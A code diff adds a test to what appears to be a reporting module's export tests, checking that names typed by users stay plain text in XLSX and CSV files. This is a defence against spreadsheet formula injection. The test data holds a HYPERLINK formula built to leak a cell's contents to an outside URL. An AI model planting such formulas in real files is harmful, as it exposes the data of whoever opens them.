@@ -45,6 +45,14 @@ def read_xlsx(content):
     return sheets
 
 
+def xlsx_sheets_xml(content):
+    """The XML of every worksheet of an XLSX file, joined."""
+    book = zipfile.ZipFile(io.BytesIO(content))
+    return b"".join(
+        book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/sheet")
+    )
+
+
 @tagged("post_install", "-at_install")
 class TestReportingExport(KommuneReportingNetworkCommon):
     """The files the funder receives: exact figures in the XLSX, no names in the
@@ -125,3 +133,18 @@ class TestReportingExport(KommuneReportingNetworkCommon):
         for user in (self.user, self.manager):
             with self.assertRaises(AccessError):
                 self.export(user=user)
+
+    def test_names_never_become_formulas(self):
+        """A name typed by a user that starts like a formula (=, +, -, @) stays text in
+        both files: opening them must not run it (spreadsheet formula injection)."""
+        name = '=HYPERLINK("https://example.com/?leak="&A2;"Periode")'
+        self.period.name = name
+        self.district_spandau.name = "@SUM(1+1)"
+        xlsx, content = self.export()
+        sheets = read_xlsx(xlsx)
+        self.assertEqual(next(iter(sheets.values()))[0][0], name, "a string, not a formula")
+        self.assertNotIn(b"<f>", xlsx_sheets_xml(xlsx), "no formula at all")
+        self.assertEqual(list(sheets.values())[2][1][1], "@SUM(1+1)")
+        rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+        self.assertTrue(rows)
+        self.assertEqual({row["period"] for row in rows}, {f"'{name}"})
